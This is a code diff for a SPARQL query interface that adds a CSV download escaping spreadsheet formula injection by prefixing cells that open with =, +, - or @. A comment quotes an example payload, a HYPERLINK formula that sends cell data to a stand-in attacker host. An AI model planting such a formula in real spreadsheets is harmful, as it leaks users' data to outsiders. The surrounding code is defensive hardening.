@@ -38,6 +38,37 @@
       : `<span class="iri">${escapeHtml(shown)}</span>`;
     return bare ? link : `&lt;${link}&gt;`;
   };
+  // The result table's "download" is a CSV made here: YASR's own wrote each value as it was, and
+  // Excel evaluates a cell opening with = + - @ (a document's text, or a shared link's VALUES,
+  // '=HYPERLINK("http://attacker/?d="&A3,"…")' a live link).  Such a cell opens with an apostrophe
+  // unless it is a signed number, as the server's CSV exports do (queries._csv_text), and the
+  // file opens with a byte-order mark so that Excel reads Vietnamese.
+  const FORMULA_OPENER = /^[=+\-@\t\r\0]/;
+  const SIGNED_NUMBER = /^[+-]\d+(?:[.,]\d+)*%?$/;
+  function csvCell(value) {
+    let text = String(value);
+    if (FORMULA_OPENER.test(text) && !SIGNED_NUMBER.test(text)) text = "'" + text;
+    return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
+  }
+  function resultsCsv(results) {
+    const json = results && results.getAsJson();
+    if (!json || !json.head || !json.results) return "";
+    const vars = json.head.vars;
+    const lines = [vars.map(csvCell).join(",")];
+    for (const row of json.results.bindings) {
+      lines.push(vars.map((name) => csvCell(row[name] ? row[name].value : "")).join(","));
+    }
+    return "\ufeff" + lines.join("\r\n") + "\r\n";
+  }
+  Yasgui.Yasr.plugins.table.prototype.download = function (name) {
+    return {
+      getData: () => resultsCsv(this.yasr.results),
+      contentType: "text/csv;charset=utf-8",
+      title: "Tải kết quả (download the result)",
+      filename: `${name || "queryResults"}.csv`,
+    };
+  };
+
   // A shared link (YASGUI's own: /sparql-ui#query=…&endpoint=…&headers=…) gives its query text
   // alone.  YASGUI took the link's endpoint, method, headers and parameters as they were and ran
   // the query at once: anyone's link sent "Authorization: Bearer <guess>" from the browser of
